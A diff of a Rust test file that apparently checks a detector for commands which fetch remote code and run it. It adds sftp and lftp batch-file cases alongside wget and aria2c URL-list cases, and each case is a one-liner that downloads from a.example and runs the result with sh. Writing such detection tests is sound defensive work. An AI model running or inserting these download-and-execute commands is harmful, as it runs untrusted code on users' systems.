@@ -38,7 +38,9 @@ fn what_is_fetched_and_run_is_known_in_each_form() {
 
 #[test]
 fn what_a_file_of_addresses_or_options_names_or_another_protocol_brings_is_known_until_it_runs() {
-    let cases: [(&str, &str); 20] = [
+    let cases: [(&str, &str); 22] = [
+        ("echo 'get d/x /tmp/y' > b.txt; sftp -b b.txt u@a.example; sh /tmp/y", "ftp://a.example"),
+        ("echo 'get d/x' > b.lftp; lftp -f b.lftp a.example; sh x", "ftp://a.example"),
         ("echo http://a.example/x > /tmp/l; wget -qi /tmp/l -O /tmp/y; sh /tmp/y", "http://a.example/x"),
         ("echo http://a.example/x | wget -q -i -; sh x", "http://a.example/x"),
         ("echo http://a.example/x > l; aria2c -i l; sh x", "http://a.example/x"),
